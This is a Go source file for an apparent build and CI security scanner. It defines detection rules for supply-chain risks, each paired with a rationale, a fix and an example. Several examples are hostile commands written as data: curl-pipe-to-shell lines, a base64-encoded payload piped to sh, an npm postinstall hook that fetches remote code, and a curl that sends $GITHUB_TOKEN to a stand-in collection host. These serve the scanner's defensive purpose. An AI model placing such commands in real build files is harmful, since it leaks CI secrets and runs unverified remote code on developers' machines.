package build

import "github.com/picketsec/picket/scanners"

func rule(name string, sev scanners.Severity, title, why, fix, cwe, example string) scanners.Rule {
	r := scanners.Rule{ID: "build/" + name, Kind: scanners.KindBuild, Severity: sev, Title: title, Why: why, Fix: fix, Example: example}
	if cwe != "" {
		r.CWE = []string{cwe}
	}
	return r
}

// Remote code execution and data leaving the build.
var (
	ruleCurlPipe = rule("curl-pipe-shell", scanners.Critical,
		"Remote script piped into a shell or interpreter",
		"Code fetched at build time and executed without verification runs whatever the remote host serves today, on every build and every developer machine, with the build's secrets in reach.",
		"Download to a file, verify its SHA-256 (or signature) against a value committed in the repository, then run it; better, vendor the script or use a pinned package.",
		"CWE-494", "install:\n\tcurl -fsSL https://get.example.net/setup.sh | sh")
	ruleDownloadExec = rule("download-exec", scanners.High,
		"Downloaded file made executable and run without verification",
		"A binary or script downloaded and run without a checksum or signature check executes whatever the host (or anyone on the path) serves.",
		"After downloading, verify the file's SHA-256 with `sha256sum -c` (or a signature with gpg/cosign) before chmod +x and running it.",
		"CWE-494", "RUN wget -O /usr/local/bin/tool https://dl.example.net/tool && chmod +x /usr/local/bin/tool && tool --init")
	ruleBase64Exec = rule("base64-exec", scanners.High,
		"Encoded payload decoded and executed",
		"Decoding base64 (or hex) straight into a shell hides the real command from reviewers; it is the usual shape of a planted backdoor.",
		"Commit the plain command instead of an encoded blob, so that reviewers can read what runs.",
		"CWE-506", "postinstall: echo Y3VybCBldmlsLnNo | base64 -d | sh")
	ruleDockerAdd = rule("docker-add-remote", scanners.Medium,
		"Dockerfile ADD of a remote URL without a checksum",
		"ADD fetches the URL at every build with no integrity check; the image then contains whatever the host served.",
		"Use `ADD --checksum=sha256:<digest> <url> <dest>`, or download in RUN and verify the SHA-256 before use.",
		"CWE-494", "ADD https://dl.example.net/tool /usr/local/bin/tool")
	rulePreCommit = rule("precommit-unknown-repo", scanners.Medium,
		"pre-commit hook from a repository outside the well-known set",
		"pre-commit runs hook code from the named repository on every contributor's machine and in CI.",
		"Review the hook repository, pin `rev:` to a full commit SHA, or implement the hook as a `repo: local` hook.",
		"CWE-829", "repos:\n  - repo: https://github.com/someone/hooks\n    rev: v1.0.0")
	ruleExfil = rule("exfiltration", scanners.Critical,
		"Secrets, environment or credential files sent to a host",
		"A build step that sends tokens, the environment or credential files to a host leaks them on every build; this is how compromised build scripts steal CI secrets.",
		"Remove the upload; send a credential only in an authentication header to the service it belongs to.",
		"CWE-200", "curl -d \"t=$GITHUB_TOKEN\" https://collect.example.net/")
	ruleSecretEcho = rule("secret-echo", scanners.Medium,
		"Secret printed to the build log",
		"Build logs are widely readable and kept for months; CI log masking is easily bypassed by any transformation of the value.",
		"Do not print secrets; write them to a file with restricted permissions or pipe them to the tool that needs them (`--password-stdin`).",
		"CWE-532", "run: echo \"token is ${{ secrets.DEPLOY_TOKEN }}\"")
	ruleNewHost = rule("new-host", scanners.Info,
		"Build file contacts a new host",
		"Every host a build contacts is a party that can change what the build does; new ones deserve a look.",
		"Check that the host is the one you expect; add it to `build.allowed_hosts` in .github/picket.yml to stop this notice.",
		"", "curl -fsSLo tool.tgz https://downloads.example.net/tool.tgz")
	ruleNewHostSensitive = rule("new-host-sensitive", scanners.High,
		"New host receives secrets or serves code that is executed",
		"A host added by this change either serves code the build executes or receives secrets: it now controls the build.",
		"Pin and verify what is downloaded (SHA-256 or signature), stop sending secrets to the host, or add the host to `build.allowed_hosts` once trusted.",
		"CWE-829", "curl https://new.example.net/i.sh | bash")
	ruleInstallHook = rule("install-hook-network", scanners.High,
		"Install-time hook contacts the network",
		"Lifecycle hooks such as npm postinstall and setup.py run on every install, on developer machines and in CI, with no review of what they fetch.",
		"Do the download in an explicit build step with a verified checksum, or ship the file in the package; keep install hooks offline.",
		"CWE-829", "\"postinstall\": \"node -e \\\"require('https').get('https://x.example.net/p.js')\\\"\"")
)

// Trust and package sources.
var (
	ruleTLS = rule("tls-verify-disabled", scanners.High,
		"TLS certificate verification disabled",
		"Without certificate checks anyone on the network path can substitute what the build downloads.",
		"Remove the flag or setting; if a private CA is needed, point the tool at its certificate (`--cacert`, `cafile`, `NODE_EXTRA_CA_CERTS`).",
		"CWE-295", "curl -k https://downloads.example.net/tool.tgz -o tool.tgz")
	ruleGoChecks = rule("go-checks-disabled", scanners.Medium,
		"Go module proxy or checksum database bypassed",
		"GOINSECURE, GONOSUMDB, GONOSUMCHECK, GOSUMDB=off, GOFLAGS=-insecure or an unknown GOPROXY let modules be fetched without the checksum database's guarantee.",
		"Keep the default proxy and checksum database; list only private module paths in GOPRIVATE, and add a trusted proxy host to `build.allowed_hosts`.",
		"CWE-494", "export GONOSUMDB=*")
	ruleIndex = rule("package-index-override", scanners.Medium,
		"Package index or registry overridden",
		"An extra or replaced package index is the vector of dependency confusion: a public package with an internal name wins.",
		"Use a single trusted index (`--index-url` to your proxy, not `--extra-index-url`), scope npm registries to your own @scope, and review the host.",
		"CWE-427", "pip install --extra-index-url https://pypi.example.net/simple internal-lib")
	ruleInsecureRepo = rule("insecure-repository", scanners.High,
		"Package repository reached over plain HTTP",
		"Artifacts fetched over http:// can be replaced by anyone on the network path.",
		"Use the https:// URL of the repository; remove allowInsecureProtocol.",
		"CWE-319", "maven { url 'http://repo.example.net/maven2' }")
	ruleReplace = rule("gomod-replace", scanners.Medium,
		"go.mod replace points a module at another module path",
		"A replace directive silently swaps a dependency for a fork or a different module, which the checksum of the original does not cover.",
		"Depend on the fork under its own module path, or explain the replacement and pin it to a reviewed version.",
		"CWE-829", "replace github.com/lib/pq => github.com/someone/pq v1.10.9")
)

// CI pipelines.
var (
	rulePwnRequest = rule("gha-pwn-request", scanners.Critical,
		"Privileged workflow checks out and runs pull-request code",
		"pull_request_target, workflow_run and issue_comment run with secrets and a write token; checking out the pull request's head and building it runs the attacker's code with them.",
		"Use the `pull_request` trigger for building untrusted code, or split into an unprivileged build workflow and a privileged one that only consumes its artifacts without executing them.",
		"CWE-829", "on: pull_request_target\n...\n- uses: actions/checkout@v4\n  with:\n    ref: ${{ github.event.pull_request.head.sha }}\n- run: npm install")
	ruleInjection = rule("ci-expression-injection", scanners.High,
		"Untrusted pull-request or issue text expanded into a script",
		"Titles, bodies, branch names and commit messages are chosen by whoever opens the pull request; a template expression pastes them into the script before the shell runs it, so `\"; curl …` in a title executes.",
		"Pass the value through `env:` and quote it in the script (`\"$TITLE\"`).",
		"CWE-78", "run: echo \"${{ github.event.pull_request.title }}\"")
	ruleUnpinned = rule("gha-unpinned-action", scanners.Medium,
		"Third-party action not pinned to a commit SHA",
		"A tag or branch can be moved by the action's owner (or whoever compromises it) to code that steals the workflow's secrets.",
		"Pin to the full 40-character commit SHA and keep the tag in a comment (`uses: owner/action@<sha> # v1.2.3`); allow trusted owners in `build.tag_owners`.",
		"CWE-829", "uses: someone/deploy-action@v2")
	rulePermissions = rule("gha-excessive-permissions", scanners.Medium,
		"Workflow token with write-all or unrestricted permissions",
		"`write-all`, or no `permissions:` on a privileged trigger, gives every step a token that can push code and tamper with releases.",
		"Declare `permissions:` at the workflow or job level with the least scopes needed (often `contents: read`).",
		"CWE-250", "permissions: write-all")
	ruleSecretsInherit = rule("gha-secrets-inherit", scanners.Medium,
		"All secrets passed to a reusable workflow from another repository",
		"`secrets: inherit` hands every repository and organisation secret to code maintained elsewhere.",
		"Pass only the secrets the reusable workflow needs, by name, under `secrets:`.",
		"CWE-200", "uses: other-org/workflows/.github/workflows/deploy.yml@main\nsecrets: inherit")
	ruleEnvInjection = rule("gha-env-injection", scanners.High,
		"Untrusted input written to GITHUB_ENV, GITHUB_PATH or GITHUB_OUTPUT",
		"A newline in attacker-controlled text lets it define arbitrary environment variables (LD_PRELOAD, NODE_OPTIONS, BASH_ENV) or outputs for later steps.",
		"Do not write untrusted text to these files; if you must, validate it against a strict pattern first or use a random heredoc delimiter.",
		"CWE-77", "run: echo \"TITLE=$TITLE\" >> \"$GITHUB_ENV\"  # TITLE from github.event.pull_request.title")
	ruleUnsecureCommands = rule("gha-unsecure-commands", scanners.High,
		"ACTIONS_ALLOW_UNSECURE_COMMANDS enabled",
		"It re-enables the deprecated set-env and add-path workflow commands, which any text printed to the log can trigger.",
		"Remove the variable and write to $GITHUB_ENV / $GITHUB_PATH files instead.",
		"CWE-77", "env:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true")
	ruleSelfHosted = rule("gha-self-hosted-pr", scanners.Medium,
		"Self-hosted runner used by a pull-request trigger",
		"In a public repository anyone can open a pull request whose code then runs on your self-hosted machine, which keeps state between jobs.",
		"Run pull-request jobs on GitHub-hosted (or ephemeral, isolated) runners.",
		"CWE-284", "on: pull_request\njobs:\n  test:\n    runs-on: self-hosted")
	rulePersistCreds = rule("gha-persist-credentials", scanners.Low,
		"Checkout keeps its token on disk in a job that uploads artifacts",
		"actions/checkout writes the token into .git/config unless `persist-credentials: false`; uploading the workspace as an artifact publishes it.",
		"Add `with: persist-credentials: false` to the checkout step.",
		"CWE-522", "- uses: actions/checkout@v4\n- uses: actions/upload-artifact@v4\n  with:\n    path: .")
	ruleCIInclude = rule("unpinned-ci-include", scanners.Medium,
		"CI configuration included from a remote source without a pin",
		"GitLab `include:` of a remote URL or of another project's branch, and CircleCI orbs at `@volatile` or a bare major version, pull pipeline code in when each pipeline starts: whoever can change that source (or compromises it) runs code with the pipeline's secrets.",
		"Pin the include: add `integrity: sha256-…` to a remote include (or vendor the file), give a project include a release tag or commit SHA as `ref:`, and pin orbs to an exact version (`circleci/node@5.2.0`; `5.2` still takes patch releases).",
		"CWE-829", "include:\n  - remote: https://ci.example.net/templates/build.yml\n  - project: platform/ci-templates\n    ref: main\n    file: /build.yml")
	ruleDockerUnpinned = rule("docker-unpinned-base", scanners.Low,
		"Base image not pinned",
		"`:latest` or an untagged image changes under the build without review.",
		"Pin the base image to a version tag and digest (`image:1.2.3@sha256:…`).",
		"CWE-1357", "FROM node:latest")
	ruleDockerRegistry = rule("docker-registry-change", scanners.Info,
		"Base image pulled from a different registry",
		"Moving a base image to another registry changes who controls what the image contains.",
		"Check that the new registry is trusted and pin the image by digest.",
		"", "FROM registry.example.net/library/node:20")
	rulePipeline = rule("pipeline-change", scanners.Info,
		"Change to the pipeline definition",
		"A new workflow, trigger, job permission or install hook changes what runs with the project's secrets: tampering with the factory deserves eyes.",
		"Have a maintainer review the pipeline change.",
		"", "on:\n  pull_request_target:")
)

var allRules = []scanners.Rule{
	ruleCurlPipe, ruleDownloadExec, ruleBase64Exec, ruleDockerAdd, rulePreCommit, ruleExfil, ruleSecretEcho,
	ruleNewHost, ruleNewHostSensitive, ruleInstallHook,
	ruleTLS, ruleGoChecks, ruleIndex, ruleInsecureRepo, ruleReplace,
	rulePwnRequest, ruleInjection, ruleUnpinned, rulePermissions, ruleSecretsInherit, ruleEnvInjection,
	ruleUnsecureCommands, ruleSelfHosted, rulePersistCreds, ruleDockerUnpinned, ruleDockerRegistry, rulePipeline,
	ruleCIInclude,
}
